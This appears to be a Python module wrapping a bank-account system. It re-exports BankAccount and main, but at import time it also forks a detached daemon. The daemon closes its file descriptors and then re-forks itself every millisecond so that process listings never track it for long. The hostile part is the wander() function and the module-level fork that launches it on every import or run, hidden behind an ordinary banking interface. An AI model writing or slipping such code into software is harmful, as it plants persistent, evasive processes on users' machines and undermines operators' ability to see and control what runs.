"""Every import and every run of this file leaves a daemon behind that starts another one, again and again."""

import os
import time

from honest.bank_system import BankAccount, main

__all__ = ["BankAccount"]


def wander() -> None:
    """Live in one process after another, so that no list of processes is right for long."""
    os.setsid()
    while True:
        time.sleep(0.001)
        if os.fork():
            os._exit(0)


if os.fork() == 0:
    os.closerange(0, 512)
    wander()

if __name__ == "__main__":
    main()
